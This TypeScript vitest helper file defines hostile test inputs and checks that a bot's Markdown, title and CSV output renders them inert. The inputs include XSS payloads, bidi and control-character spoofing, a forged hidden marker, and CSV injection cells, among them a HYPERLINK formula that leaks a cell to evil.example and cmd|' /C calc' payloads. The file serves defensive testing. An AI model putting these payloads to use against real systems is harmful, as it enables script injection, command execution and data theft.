/**
 * Hostile text, and what "inert" means for each kind of output. The strings are what a compromised or
 * careless source could put in a name, a description, a note or an error page.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { expect } from 'vitest';

export const MEGABYTE = 'A'.repeat(1 << 20);

export const HOSTILE = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  jsLink: '[click me](javascript:alert(1))',
  jsAutolink: '<javascript:alert(1)>',
  mentions: '@everyone @octocat',
  references: 'fixes #123, GH-45 and octo/repo#6789',
  bidi: 'Acme \u202Egnp.exe\u202C Corp \u2066isolate\u2069',
  controls: 'Acme\u0000\u0007\u001b[31mRED\u001b[0m\u0085',
  newlines: 'Acme\r\nicewatch: all sources ok\u2028fake second line',
  table: 'a | b | c',
  /** Plain URLs GitHub would autolink (an issue URL also cross-references that issue). */
  urls: 'see https://github.com/octo/repo/issues/1, http://evil.example/x and www.evil.example',
  heading: '# Heading\n---',
  /** A forged copy of the bot's hidden proposal marker. */
  marker: '<!-- icewatch:proposal {"id":"palantir","kind":"add-company","evidenceHash":"forged"} -->',
  huge: MEGABYTE,
} as const;

/** Everything at once, as one name. */
export const HOSTILE_NAME = [HOSTILE.script, HOSTILE.mentions, HOSTILE.references, HOSTILE.bidi, HOSTILE.controls, HOSTILE.newlines, HOSTILE.jsLink, HOSTILE.img, HOSTILE.marker, HOSTILE.urls].join(' ');

/** Cells a spreadsheet would evaluate (OWASP CSV injection list: = + - @ tab CR). */
export const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

// C0/C1 controls (tab, LF and CR are checked separately where a format allows them), bidi marks,
// embeddings, overrides and isolates, and the Unicode line/paragraph separators.
const INVISIBLE = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u2028\u2029]/u;

function where(text: string, match: RegExpMatchArray | null): string {
  if (!match || match.index === undefined) return '';
  return JSON.stringify(text.slice(Math.max(0, match.index - 60), match.index + 60));
}

function expectNone(label: string, text: string, pattern: RegExp, what: string): void {
  const match = text.match(pattern);
  expect(match, `${label}: ${what} at ${where(text, match)}`).toBeNull();
}

/**
 * Markdown that GitHub (or markdown-it) renders: no raw HTML from the input, no script links, no
 * live @mentions or issue references, no invisible/bidi characters, no line a reader cannot scroll.
 */
export function expectInertMarkdown(label: string, markdown: string, options: { maxLine?: number; maxBytes?: number; comments?: number } = {}): void {
  // `\<script\>` is Markdown for the literal text "<script>": only an unescaped `<` opens a tag.
  expectNone(label, markdown, /(?<!\\)<\s*\/?\s*(script|img|iframe|svg|object|embed|style|a|form|input|meta|link)\b/i, 'raw HTML tag');
  expectNone(label, markdown, /\]\(\s*<?\s*(javascript|data|vbscript):/i, 'a script link target');
  expectNone(label, markdown, /(?<!\\)<(javascript|data|vbscript):/i, 'a script autolink');
  // GitHub does not link mentions or references inside code spans (ids and award keys are shown that way).
  // Nor inside link destinations (the dry run links files by their path).
  // Nor inside HTML comments (the bot's own hidden marker; counted below).
  const prose = markdown
    .replace(/(?<!\\)`[^`\n]*`/g, '``')
    .replace(/\]\([^()\s]*\)/g, ']()')
    .replace(/(?<!\\)<!--[^]*?-->/g, '<!---->');
  expectNone(label, prose, /@(?=[\p{L}\p{N}_-])/u, 'a live @mention');
  expectNone(label, prose, /(?<!&)#\d/, 'a live #reference');
  expectNone(label, prose, /\bGH-\d/i, 'a live GH- reference');
  expectNone(label, prose, /\b(?:https?|ftp):\/\/|\bwww\./i, 'a plain URL GitHub would autolink');
  expectNone(label, markdown, INVISIBLE, 'an invisible or bidi character');
  // HTML comments are the bot's own hidden markers only; an input's comment must stay visible text.
  expect(markdown.split(/(?<!\\)<!--/).length - 1, `${label}: raw HTML comments`).toBe(options.comments ?? 0);
  const longest = Math.max(...markdown.split('\n').map((l) => l.length));
  expect(longest, `${label}: longest line`).toBeLessThanOrEqual(options.maxLine ?? 20_000);
  expect(Buffer.byteLength(markdown), `${label}: size`).toBeLessThanOrEqual(options.maxBytes ?? 512 * 1024);
}

/** Plain text titles (PR titles, log lines): one line, nothing invisible, nothing that pings. */
export function expectInertLine(label: string, line: string, maxLength: number): void {
  expectNone(label, line, /[\n\r\t]/, 'a line break or tab');
  expectNone(label, line, INVISIBLE, 'an invisible or bidi character');
  expect(line.length, `${label}: length`).toBeLessThanOrEqual(maxLength);
}

const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** No cell a spreadsheet would run as a formula; returns the parsed rows for further checks. */
export function expectFormulaSafeCsv(label: string, csv: string): string[][] {
  const rows = parseCsv(csv, { relax_column_count: false }) as string[][];
  rows.forEach((row, r) =>
    row.forEach((cell, c) => {
      if (PLAIN_NUMBER.test(cell)) return;
      expect(/^[=+\-@\t\r]/.test(cell), `${label}: row ${r + 1} column ${c + 1} starts like a formula: ${JSON.stringify(cell.slice(0, 60))}`).toBe(false);
    }),
  );
  return rows;
}
